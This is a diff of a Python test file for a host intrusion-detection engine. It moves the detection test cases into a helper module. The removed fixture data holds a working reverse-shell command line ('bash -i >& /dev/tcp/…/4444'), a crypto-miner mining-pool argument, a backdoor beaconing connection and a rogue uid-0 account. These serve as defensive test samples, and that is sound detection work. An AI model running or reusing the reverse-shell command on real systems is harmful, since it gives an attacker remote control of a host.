@@ -3,7 +3,6 @@ quiet on a near miss; the benign corpus stays quiet."""
 
 from __future__ import annotations
 
-from collections.abc import Callable
 from datetime import timedelta
 
 import msgspec
@@ -15,239 +14,19 @@ from kefal_lite.detect.engine import Catalog, Detection, evaluate, is_loopback, 
 from kefal_lite.detect.model import SEVERITY_RANK, Finding
 from kefal_lite.detect.state import HostState, dumps, loads
 from kefal_lite.snapshot import Snapshot
-from tests.builders import BASE_USERS, proc, snap
-
-CATALOG = Catalog(BUILTINS)
-
-
-def run(snapshots: list[Snapshot], skew: timedelta = timedelta(seconds=2)) -> list[Finding]:
-    """Evaluate a sequence; return the findings of the last snapshot."""
-    state = HostState()
-    findings: list[Finding] = []
-    for s in snapshots:
-        findings, state = evaluate(s, state, CATALOG, s.timestamp + skew)
-    return findings
-
-
-def learned(n: int = 3, **fields: object) -> list[Snapshot]:
-    """n learning snapshots of the base host (with `fields`)."""
-    return [snap(i, **fields) for i in range(n)]  # type: ignore[arg-type]
-
-
-def persisting(i: int, **fields: object) -> list[Snapshot]:
-    """A change shown in two consecutive snapshots from index i: novelty must persist."""
-    return [snap(i, **fields), snap(i + 1, **fields)]  # type: ignore[arg-type]
-
-
-def _users(*extra: dict[str, object]) -> list[dict[str, object]]:
-    return [*BASE_USERS, *extra]
-
-
-KEY_ROOT = {"user": "root", "fingerprint": "SHA256:rootkey", "comment": "evil"}
-KEY_ALICE = {"user": "alice", "fingerprint": "SHA256:aaaa", "comment": "a@l"}
-KEY_ALICE2 = {"user": "alice", "fingerprint": "SHA256:bbbb", "comment": "new"}
-OUT = {"protocol": "tcp", "local_port": 40000, "remote_address": "1.2.3.4", "remote_port": 443,
-       "process": "curl", "state": "ESTABLISHED"}  # fmt: skip
-OUT_NEW = {**OUT, "remote_port": 4444, "process": "python3"}
-BACKDOOR_OUT = {
-    **OUT,
-    "remote_address": "203.0.113.7",
-    "remote_port": 4444,
-    "process": "backdoor",
-    "pid": 777,
-}
-INBOUND = {**OUT, "local_port": 80, "remote_port": 51234, "process": "nginx"}
-
-# invariant -> (violating sequence, subject, severity, near-miss sequence)
-Case = tuple[Callable[[], list[Snapshot]], str, str, Callable[[], list[Snapshot]]]
-CASES: dict[str, Case] = {
-    "database_exposed": (
-        lambda: [snap(add_ports=[{"port": 5432, "process": "postgres", "address": "0.0.0.0"}])],
-        "port:5432/tcp", "critical",
-        lambda: [snap(add_ports=[{"port": 5432, "process": "postgres", "address": "127.0.0.1"}])],
-    ),
-    "control_plane_exposed": (
-        lambda: [snap(add_ports=[{"port": 2375, "process": "dockerd", "address": "::"}])],
-        "port:2375/tcp", "critical",
-        lambda: [snap(add_ports=[{"port": 2375, "process": "dockerd", "address": "::1"}])],
-    ),
-    "cleartext_remote_access": (
-        lambda: [snap(add_ports=[{"port": 23, "process": "telnetd", "address": "127.0.0.1"}])],
-        "port:23/tcp", "high",
-        lambda: [snap(add_ports=[{"port": 2323, "process": "telnetd", "address": "0.0.0.0"}])],
-    ),
-    "remote_desktop_exposed": (
-        lambda: [snap(add_ports=[{"port": 5901, "process": "Xvnc", "address": "192.168.1.20"}])],
-        "port:5901/tcp", "high",
-        lambda: [snap(add_ports=[{"port": 5901, "process": "Xvnc", "address": "127.0.0.1"}])],
-    ),
-    "ssh_port_masquerade": (
-        lambda: [snap(listening_ports=[{"port": 22, "process": "nc", "address": "0.0.0.0"}])],
-        "port:22/tcp", "high",
-        lambda: [snap(listening_ports=[{"port": 22, "process": "dropbear", "address": "0.0.0.0"}])],
-    ),
-    "database_running_as_root": (
-        lambda: [snap(add_processes=[proc("postgres", "root")])], "process:postgres", "high",
-        lambda: [snap(add_processes=[proc("postgres", "postgres")])],
-    ),
-    "root_process_in_writable_path": (
-        lambda: [snap(add_processes=[proc("updater", "root", exe="/home/alice/.cache/updater")])],
-        "process:updater", "critical",
-        # /tmp only in an argument, the binary itself is a system one
-        lambda: [snap(add_processes=[proc("python3", "root", exe="/usr/bin/python3.11",
-                                          cmdline="python3 /tmp/build.py")])],
-    ),
-    "uid0_duplicate": (
-        lambda: [snap(users=_users({"name": "toor", "uid": 0, "groups": [], "shell": "/bin/sh"}))],
-        "user:toor", "critical",
-        lambda: [snap(users=_users({"name": "toor", "uid": 1001, "groups": [], "shell": "/bin/sh"}))],
-    ),
-    "new_admin_account": (
-        lambda: [*learned(), *persisting(3, users=_users({"name": "bob", "uid": 1001, "groups": ["wheel"]}))],
-        "user:bob", "high",
-        lambda: [snap(i, users=_users({"name": "bob", "uid": 1001, "groups": ["wheel"]}))
-                 for i in range(4)],
-    ),
-    "process_in_suspicious_path": (
-        lambda: [snap(add_processes=[proc(".x", "www-data", exe="/dev/shm/.x")])],
-        "process:.x", "high",
-        lambda: [snap(add_processes=[proc("python3", "www-data", exe="/usr/bin/python3",
-                                          cmdline="python3 /tmp/job.py")])],
-    ),
-    "crypto_miner": (
-        lambda: [snap(add_processes=[proc("kworkerds", "www-data", exe="/usr/bin/kworkerds",
-                                          cmdline="./kworkerds -o stratum+tcp://pool.example:3333")])],
-        "process:kworkerds", "critical",
-        lambda: [snap(add_processes=[proc("xmrig-docs", "alice", cmdline="less xmrig.md")])],
-    ),
-    "reverse_shell": (
-        lambda: [snap(add_processes=[proc("bash", "www-data", cmdline="bash -c bash -i >& /dev/tcp/10.0.0.9/4444 0>&1")])],
-        "process:bash", "critical",
-        lambda: [snap(add_processes=[proc("nc", "alice", cmdline="nc -z db.lan 5432")])],
-    ),
-    "shell_listening": (
-        lambda: [snap(add_ports=[{"port": 4444, "process": "bash", "address": "0.0.0.0"}])],
-        "port:4444/tcp", "critical",
-        lambda: [snap(add_processes=[proc("bash", "alice")])],
-    ),
-    "offensive_tool_running": (
-        lambda: [snap(add_processes=[proc("NMAP", "alice")])], "process:nmap", "high",
-        lambda: [snap(add_processes=[proc("nmapper", "alice")])],
-    ),
-    "tunneling_tool_running": (
-        lambda: [snap(add_processes=[proc("ngrok.exe", "alice")])], "process:ngrok", "medium",
-        lambda: [snap(add_processes=[proc("ngrokd-docs", "alice")])],
-    ),
-    "deleted_binary_running": (
-        lambda: [snap(add_processes=[proc("app", "www-data", exe="/srv/app/bin/app (deleted)")])],
-        "process:app", "high",
-        lambda: [snap(add_processes=[proc("app", "www-data", exe="/srv/deleted/app")])],
-    ),
-    "kernel_thread_masquerade": (
-        lambda: [snap(add_processes=[proc("[kworker/0:2]", "root", exe="/var/tmp/.k")])],
-        "process:[kworker/0:2]", "high",
-        lambda: [snap(add_processes=[proc("[kworker/0:2]", "root", exe=None, ppid=2)])],
-    ),
-    "root_login": (
-        lambda: [snap(logged_in_users=["alice", "root"])], "user:root", "medium",
-        lambda: [snap(logged_in_users=["alice"])],
-    ),
-    "new_login_user": (
-        lambda: [*learned(), *persisting(3, logged_in_users=["alice", "mallory"])], "user:mallory", "high",
-        lambda: [snap(i, logged_in_users=["alice", "mallory"]) for i in range(4)],
-    ),
-    "new_ssh_authorized_key": (
-        lambda: [*learned(), *persisting(3, ssh_authorized_keys=[KEY_ALICE, KEY_ROOT])],
-        "key:root:SHA256:rootkey", "critical",
-        lambda: [snap(i, ssh_authorized_keys=[KEY_ALICE, KEY_ROOT]) for i in range(4)],
-    ),
-    "system_account_login": (
-        lambda: [snap(logged_in_users=["www-data"])], "user:www-data", "high",
-        lambda: [snap(logged_in_users=["root", "alice"])],
-    ),
-    "new_listening_port": (
-        lambda: [*learned(), *persisting(3, add_ports=[{"port": 8081, "process": "nginx", "address": "0.0.0.0"}])],
-        "port:8081/tcp", "medium",
-        # loopback is not exposure, and an ephemeral port is judged by its owner, not its number
-        lambda: [*learned(), *persisting(3, add_ports=[{"port": 8081, "process": "nginx", "address": "127.0.0.1"},
-                                                       {"port": 42877, "process": "nginx", "address": "0.0.0.0"}])],
-    ),
-    "new_listening_process": (
-        # a known port (80) under a new owner: with a new port too, both are one incident
-        lambda: [*learned(), *persisting(3, add_ports=[{"port": 80, "process": "socat", "address": "0.0.0.0"}])],
-        "process:socat", "medium",
-        # a loopback-only listener, even a network tool, is a notice at most
-        lambda: [*learned(), *persisting(3, add_ports=[{"port": 9999, "process": "socat", "address": "127.0.0.1"}])],
-    ),
-    "new_root_process": (
-        lambda: [*learned(), *persisting(3, add_processes=[proc("backdoor", "root", pid=777)],
-                                         connections=[BACKDOOR_OUT])], "process:backdoor", "medium",
-        # a renamed kernel thread is not a new program; a new root program alone is a notice
-        lambda: [*learned(), *persisting(3, add_processes=[proc("kworker/1:3-mm", "root", exe=None, ppid=2),
-                                                           proc("tar", "root", pid=778)])],
-    ),
-    "novel_outbound_connection": (
-        lambda: [*learned(connections=[OUT]), *persisting(3, connections=[OUT, OUT_NEW])],
-        "peer:python3:4444", "medium",
-        # inbound, and loopback (not egress), and curl on a new port (no second signal)
-        lambda: [*learned(connections=[OUT]),
-                 *persisting(3, connections=[OUT, INBOUND, {**OUT_NEW, "remote_address": "127.0.0.1"},
-                                             {**OUT, "remote_port": 8443}])],
-    ),
-    "snapshot_replay": (
-        lambda: [snap(5), snap(2)], "timestamp", "high",
-        lambda: [snap(2), snap(5)],
-    ),
-    "clock_skew": (
-        lambda: [snap(0)], "clock", "low",
-        lambda: [snap(0)],
-    ),
-    "host_rebooted": (
-        lambda: [snap(0), snap(1, uptime_seconds=90, kernel="6.8.0-50-generic")],
-        "boot:2026-11-02T08:59", "low",
-        lambda: [snap(0), snap(1)],
-    ),
-    "security_tool_stopped": (
-        lambda: [snap(0, add_processes=[proc("auditd")]), snap(1)], "process:auditd", "high",
-        lambda: [snap(0), snap(1), snap(2, add_processes=[proc("auditd")])],
-    ),
-    "sustained_high_cpu": (
-        lambda: [snap(i, add_processes=[proc("python3", "alice", cpu=97.0)]) for i in range(3)],
-        "process:python3", "medium",
-        lambda: [snap(0, add_processes=[proc("python3", "alice", cpu=97.0)]),
-                 snap(1, add_processes=[proc("python3", "alice", cpu=97.0)]),
-                 snap(2, add_processes=[proc("python3", "alice", cpu=12.0)])],
-    ),
-    "process_count_spike": (
-        lambda: [*[snap(i, add_processes=[proc(f"w{j}", "alice", pid=1000 + j) for j in range(20)])
-                   for i in range(3)],
-                 snap(3, add_processes=[proc(f"w{j}", "alice", pid=1000 + j) for j in range(80)])],
-        "processes", "medium",
-        # baseline of 6 processes is under min_baseline 20: x3 growth is normal here
-        lambda: [*learned(), snap(3, add_processes=[proc(f"w{j}", "alice", pid=1000 + j) for j in range(20)])],
-    ),
-}  # fmt: skip
-
-SKEW = {"clock_skew": (timedelta(minutes=-10), timedelta(minutes=-4))}
-
-
-def _for(invariant_id: str, findings: list[Finding]) -> list[Finding]:
-    """The findings of one rule, including those folded into another rule's on the same
-    subject (one process, one incident)."""
-    out = []
-    for f in findings:
-        for rule in f.evidence.get("rules", [{"invariant_id": f.invariant_id}]):
-            if rule["invariant_id"] == invariant_id:
-                out.append(
-                    Finding(
-                        invariant_id,
-                        f.subject,
-                        rule.get("severity", f.severity),
-                        rule.get("title", f.title),
-                        rule.get("evidence", f.evidence),
-                    )
-                )
-    return out
+from tests.builders import proc, snap
+from tests.helpers.engine import (
+    CASES,
+    CATALOG,
+    KEY_ALICE,
+    KEY_ALICE2,
+    OUT,
+    SKEW,
+    findings_of,
+    learned,
+    persisting,
+    run,
+)
 
 
 def test_every_builtin_but_the_timer_has_a_case() -> None:
@@ -258,7 +37,7 @@ def test_every_builtin_but_the_timer_has_a_case() -> None:
 def test_builtin_fires_on_its_violation(invariant_id: str) -> None:
     violating, subject, severity, _ = CASES[invariant_id]
     skew = SKEW.get(invariant_id, (timedelta(seconds=2),))[0]
-    hits = _for(invariant_id, run(violating(), skew))
+    hits = findings_of(invariant_id, run(violating(), skew))
     assert [(f.subject, f.severity) for f in hits] == [(subject, severity)]
     assert hits[0].evidence and hits[0].title
 
@@ -267,14 +46,14 @@ def test_builtin_fires_on_its_violation(invariant_id: str) -> None:
 def test_builtin_stays_quiet_on_a_near_miss(invariant_id: str) -> None:
     _, _, severity, near = CASES[invariant_id]
     skew = SKEW.get(invariant_id, (None, timedelta(seconds=2)))[1]
-    found = _for(invariant_id, run(near(), skew))
+    found = findings_of(invariant_id, run(near(), skew))
     if severity != "low":  # a novelty may leave a low notice on a near miss, never more
         found = [f for f in found if SEVERITY_RANK[f.severity] >= SEVERITY_RANK["medium"]]
     assert found == []
 
 
 def test_authorized_key_for_a_plain_user_is_high() -> None:
-    hits = _for(
+    hits = findings_of(
         "new_ssh_authorized_key",
         run([*learned(), *persisting(3, ssh_authorized_keys=[KEY_ALICE, KEY_ALICE2])]),
     )
@@ -284,15 +63,15 @@ def test_authorized_key_for_a_plain_user_is_high() -> None:
 
 def test_novelty_is_silent_during_learning_and_fires_once() -> None:
     seq = [snap(0), snap(1, logged_in_users=["alice", "eve"])]
-    assert _for("new_login_user", run(seq)) == []  # still learning
+    assert findings_of("new_login_user", run(seq)) == []  # still learning
     seq = [*learned(), *persisting(3, logged_in_users=["eve"])]
-    assert _for("new_login_user", run(seq))  # fires once it persisted
+    assert findings_of("new_login_user", run(seq))  # fires once it persisted
     seq.append(snap(5, logged_in_users=["eve"]))
-    assert _for("new_login_user", run(seq)) == []  # eve is in the baseline after it fired
+    assert findings_of("new_login_user", run(seq)) == []  # eve is in the baseline after it fired
 
 
 def test_reboot_notes_the_kernel_change() -> None:
-    [hit] = _for(
+    [hit] = findings_of(
         "host_rebooted", run([snap(0), snap(1, uptime_seconds=90, kernel="6.8.0-50-generic")])
     )
     assert (
@@ -304,7 +83,7 @@ def test_reboot_notes_the_kernel_change() -> None:
 
 def test_replayed_snapshot_does_not_also_count_as_a_reboot() -> None:
     findings = run([snap(5), snap(2)])
-    assert _for("host_rebooted", findings) == []
+    assert findings_of("host_rebooted", findings) == []
 
 
 def test_seed_only_snapshot_is_evaluated_without_optional_fields() -> None:
@@ -414,7 +193,7 @@ def test_outbound_novelty_reads_like_a_sentence_with_the_whole_story() -> None:
             "process": "nc", "pid": 4242, "state": "ESTABLISHED"}  # fmt: skip
     findings = run([*learned(connections=[OUT]),
                     *persisting(3, connections=[OUT, conn], add_processes=[parent, nc])])  # fmt: skip
-    [hit] = _for("novel_outbound_connection", findings)
+    [hit] = findings_of("novel_outbound_connection", findings)
     assert (
         hit.title == "nc (pid 4242, root) connects to 203.0.113.7:4444, a port this host never used"
     )
@@ -461,12 +240,12 @@ def test_baselines_keep_learning_and_forget_what_stopped() -> None:
     seq += [snap(2 * day + i) for i in range(2)]  # day 2: rollover again, bob forgotten
     seq += [snap(3 * day + i, **vpn) for i in range(2)]
     findings, _ = _run_with(cat, seq)  # type: ignore[arg-type]
-    assert [f.subject for f in _for("new_login_user", findings)] == ["user:bob"]
+    assert [f.subject for f in findings_of("new_login_user", findings)] == ["user:bob"]
     # seen once a generation, bob stays normal
     seq = [snap(i, **vpn) for i in range(3)] + [snap(k * day + i, **vpn)
                                                 for k in (1, 2, 3) for i in range(2)]  # fmt: skip
     findings, _ = _run_with(cat, seq)  # type: ignore[arg-type]
-    assert _for("new_login_user", findings) == []
+    assert findings_of("new_login_user", findings) == []
 
 
 def test_a_state_persisted_before_time_learning_counts_as_learned() -> None:
@@ -480,7 +259,7 @@ def test_a_state_persisted_before_time_learning_counts_as_learned() -> None:
     _, state = evaluate(s, state, cat, s.timestamp)
     s = snap(11, logged_in_users=["alice", "eve"])
     findings, state = evaluate(s, state, cat, s.timestamp)
-    assert [f.subject for f in _for("new_login_user", findings)] == ["user:eve"]
+    assert [f.subject for f in findings_of("new_login_user", findings)] == ["user:eve"]
 
 
 def test_sustained_cpu_counts_minutes_not_fast_samples() -> None:
